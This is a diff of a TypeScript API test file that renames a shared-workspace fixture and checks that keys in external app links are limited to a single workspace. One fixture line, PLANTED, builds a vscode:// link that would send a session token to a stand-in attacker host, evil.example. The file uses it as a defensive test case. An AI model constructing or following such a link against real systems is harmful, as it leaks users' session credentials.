@@ -11,7 +11,7 @@ import { getContext } from "#test/support/seed.ts";
 import { ADMIN } from "#test/support/server.ts";
 import { awaitBuild, createWorkspace } from "#test/support/workspaces.ts";
 import { connectAgent } from "../agents/rpc-agent.ts";
-import { CALLERS, openCast } from "../workspaces/cast.ts";
+import { CALLERS, openSharedWorkspace } from "../workspaces/shared-workspace.ts";
 
 const PLANTED = "vscode://x.y/open?url=https%3A%2F%2Fevil.example&token=$SESSION_TOKEN";
 const APPS = [
@@ -26,13 +26,13 @@ const APPS = [
   { slug: "inside", url: "http://localhost:3000/?t=$SESSION_TOKEN" },
 ];
 const clock = new ManualClock();
-const cast = await forFile(
-  openCast({
+const shared = await forFile(
+  openSharedWorkspace({
     clock,
     manifest: { provisioner: "echo", resources: [{ name: "main", agents: [{ name: "dev", apps: APPS }] }] },
   }),
 );
-const { server, clients, workspace } = cast;
+const { server, clients, workspace } = shared;
 const owner = clients.owner;
 const agent_id = workspace.latest_build.resources[0]?.agents?.[0]?.id as string;
 const linkPath = (slug: string, agent = agent_id) => `/api/v2/workspaceagents/${agent}/apps/${slug}/link` as const;
@@ -77,7 +77,7 @@ describe("the link of an external app", () => {
   });
 
   test("[AX-18] gets no key if a program in the workspace declared the app", async () => {
-    await using parent = await connectAgent(server, cast.token);
+    await using parent = await connectAgent(server, shared.token);
     const { agent: child, appCreationErrors } = await parent.agent.createSubAgent({
       name: "devcontainer",
       apps: [
@@ -106,16 +106,16 @@ describe("the link of an external app", () => {
   });
 });
 
-describe("its key", () => {
+describe("the key in the link of an external app", () => {
   test("[ID-28] gives access to its workspace and to nothing else of its user", async () => {
-    const other = await createWorkspace(owner, cast.template_id, "other");
+    const other = await createWorkspace(owner, shared.template_id, "other");
     const other_agent = (await awaitBuild(owner, other.id)).latest_build.resources[0]?.agents?.[0];
     const client = owner.withToken(await newKey());
     expect((await client.get<{ username: string }>("/api/v2/users/me")).username).toBe("ada");
     expect(
       (await client.get<{ workspaces: Workspace[] }>("/api/v2/workspaces")).workspaces.map(({ id }) => id),
-    ).toEqual([cast.id]);
-    expect((await client.get<Workspace>("/api/v2/users/me/workspace/dev")).id).toBe(cast.id);
+    ).toEqual([shared.id]);
+    expect((await client.get<Workspace>("/api/v2/users/me/workspace/dev")).id).toBe(shared.id);
     expect((await client.fetch("GET", `/api/v2/workspaceagents/${agent_id}`)).status).toBe(200);
     const refused: [string, string, unknown?][] = [
       ["GET", `/api/v2/workspaces/${other.id}`],
@@ -134,8 +134,8 @@ describe("its key", () => {
       ["GET", "/api/v2/users"],
       ["GET", "/api/v2/chats"],
       ["GET", "/api/v2/templates"],
-      ["DELETE", `${cast.path}`],
-      ["PATCH", `${cast.path}/acl`, { user_roles: {} }],
+      ["DELETE", `${shared.path}`],
+      ["PATCH", `${shared.path}/acl`, { user_roles: {} }],
     ];
     for (const [method, path, body] of refused) {
       const { status } = await client.fetch(method, path as "/api/v2/users", body as never);
@@ -147,8 +147,8 @@ describe("its key", () => {
     expect(app.status).toBe(404);
   });
 
-  test("[ID-28] of a deployment owner is also valid for this workspace only", async () => {
-    const { template_id } = cast;
+  test("[ID-28] is valid for this workspace only, also if its user owns the deployment", async () => {
+    const { template_id } = shared;
     const admin = await new Client(server.url).signIn(ADMIN.email, ADMIN.password);
     const { id } = await createWorkspace(admin, template_id, "bosses");
     const own = await awaitBuild(admin, id);
@@ -156,7 +156,7 @@ describe("its key", () => {
     const { key } = await admin.post<{ key: string }>(`/api/v2/workspaceagents/${agent}/keys`);
     const client = admin.withToken(key);
     expect((await client.fetch("GET", `/api/v2/workspaces/${id}`)).status).toBe(200);
-    expect((await client.fetch("GET", `/api/v2/workspaces/${cast.id}`)).status).toBe(404);
+    expect((await client.fetch("GET", `/api/v2/workspaces/${shared.id}`)).status).toBe(404);
     expect(
       (await client.get<{ workspaces: Workspace[] }>("/api/v2/workspaces")).workspaces.map((one) => one.id),
     ).toEqual([id]);
@@ -167,7 +167,7 @@ describe("its key", () => {
     const admin = await new Client(server.url).signIn(ADMIN.email, ADMIN.password);
     const make = async () => (await admin.post<{ key: string }>(`/api/v2/workspaceagents/${agent_id}/keys`)).key;
     const [first, second] = [await make(), await make()];
-    const url = new URL(`/api/v2/workspaces/${cast.id}/watch-ws`, server.url);
+    const url = new URL(`/api/v2/workspaces/${shared.id}/watch-ws`, server.url);
     url.protocol = "ws:";
     const socket = new WebSocket(url, { headers: { "Service-Session-Token": first } } as never);
     const closed = new Promise<number>((resolve) => {
